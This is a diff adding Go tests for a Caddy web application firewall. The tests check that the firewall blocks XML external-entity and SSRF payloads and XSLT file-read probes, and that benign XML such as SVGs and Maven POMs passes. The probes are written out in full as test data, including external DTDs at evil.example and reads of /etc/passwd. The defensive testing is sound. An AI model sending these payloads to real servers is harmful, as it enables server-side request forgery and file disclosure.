@@ -1,0 +1,82 @@
+package waf
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/caddyserver/caddy/v2"
+	"github.com/caddyserver/caddy/v2/modules/caddyhttp"
+	"go.uber.org/zap"
+	"go.uber.org/zap/zaptest/observer"
+)
+
+// TestXMLReachingOut: an XML document type with an external identifier
+// (the third fresh-eyes attack's BROKE 10: SSRF and out-of-band XXE
+// through an external DTD, no ENTITY in the request) and XSLT probes are
+// refused by rules 210160 and 210161, in an XML body and in an uploaded
+// text file; documents with the W3C's document types, an internal
+// subset, schema locations and ordinary XSLT pass.
+func TestXMLReachingOut(t *testing.T) {
+	xml := "application/xml"
+	svgDTD, svgDTDType := multipartFile("icon", `filename="icon.svg"`, "image/svg+xml", `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "http://evil.example/e.dtd"><svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>`)
+	svgW3C, svgW3CType := multipartFile("icon", `filename="icon.svg"`, "image/svg+xml", `<?xml version="1.0" standalone="no"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>`)
+	misses := []probe{
+		{name: "external DTD, SYSTEM http", method: "POST", path: "/api", contentType: xml, body: `<!DOCTYPE r SYSTEM "http://evil.example/e.dtd"><r>1</r>`},
+		{name: "external DTD, PUBLIC", method: "POST", path: "/api", contentType: xml, body: `<!DOCTYPE r PUBLIC "-//A//B" "http://evil.example/e.dtd"><r>1</r>`},
+		{name: "external DTD, SYSTEM ftp", method: "POST", path: "/api", contentType: xml, body: `<!DOCTYPE r SYSTEM "ftp://evil.example/e.dtd"><r>1</r>`},
+		{name: "external DTD, SYSTEM jar", method: "POST", path: "/api", contentType: "text/xml", body: `<!DOCTYPE r SYSTEM "jar:http://evil.example/a.jar!/e.dtd"><r>1</r>`},
+		{name: "external DTD in an uploaded SVG", method: "POST", path: "/upload", contentType: svgDTDType, body: svgDTD},
+		{name: "XSLT system-property probe", method: "POST", path: "/transform", contentType: xml, body: `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="system-property('xsl:vendor')"/></xsl:template></xsl:stylesheet>`},
+	}
+	catches := []probe{
+		{name: "external DTD posing as the W3C's (the CRS's)", method: "POST", path: "/api", contentType: xml, body: `<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://evil.example/e.dtd"><r>1</r>`},
+		{name: "XSLT unparsed-text file read (the CRS's)", method: "POST", path: "/transform", contentType: xml, body: `<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="unparsed-text('/etc/passwd')"/></xsl:template></xsl:stylesheet>`},
+		{name: "SYSTEM file:// (the CRS's)", method: "POST", path: "/api", contentType: xml, body: `<!DOCTYPE r SYSTEM "file:///etc/passwd"><r>1</r>`},
+		{name: "an external ENTITY (the CRS's)", method: "POST", path: "/api", contentType: xml, body: `<!DOCTYPE r [<!ENTITY x SYSTEM "http://evil.example/x">]><r>&x;</r>`},
+	}
+	benign := []probe{
+		{name: "an SVG upload with the W3C's document type", method: "POST", path: "/upload", contentType: svgW3CType, body: svgW3C},
+		{name: "an internal subset without entities", method: "POST", path: "/api", contentType: xml, body: `<!DOCTYPE note [<!ELEMENT note (#PCDATA)>]><note>Remember the milk</note>`},
+		{name: "a Maven POM with a schema location", method: "POST", path: "/api/poms", contentType: xml, body: `<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd"><modelVersion>4.0.0</modelVersion><artifactId>app</artifactId></project>`},
+	}
+	// not here, as the CRS alone refuses them (false positives of its
+	// own): an XHTML document with the W3C's document type posted as an
+	// XML body, an XSLT stylesheet, and text that names <!DOCTYPE html>
+	runBeyondTheCRS(t, catches, misses, benign)
+}
+
+// TestXMLNodesRefusalIsNamed: an XML body of more nodes than
+// max_arguments (here one element with 1,700 attributes) is refused with
+// 400 and logged as such, not as a multipart body (the third fresh-eyes
+// attack's log-message finding).
+func TestXMLNodesRefusalIsNamed(t *testing.T) {
+	ctx, cancel := caddy.NewContext(caddy.Context{Context: context.Background()})
+	defer cancel()
+	w := &WAF{}
+	if err := w.Provision(ctx); err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = w.Cleanup() }()
+	core, logs := observer.New(zap.InfoLevel)
+	w.logger = zap.New(core)
+	var b strings.Builder
+	b.WriteString("<r")
+	for i := range 1700 {
+		fmt.Fprintf(&b, ` a%d="x"`, i)
+	}
+	b.WriteString("/>")
+	req := httptest.NewRequest("POST", "/api", strings.NewReader(b.String()))
+	req.Header.Set("Content-Type", "application/xml")
+	rec := httptest.NewRecorder()
+	_ = w.ServeHTTP(rec, req, caddyhttp.HandlerFunc(func(http.ResponseWriter, *http.Request) error { return nil }))
+	if rec.Code != http.StatusBadRequest {
+		t.Fatalf("an element with 1,700 attributes: %d, want 400", rec.Code)
+	}
+	if all := logs.All(); len(all) != 1 || !strings.Contains(all[0].Message, "XML body") {
+		t.Errorf("logged %+v, want one line naming an XML body", all)
+	}
+}
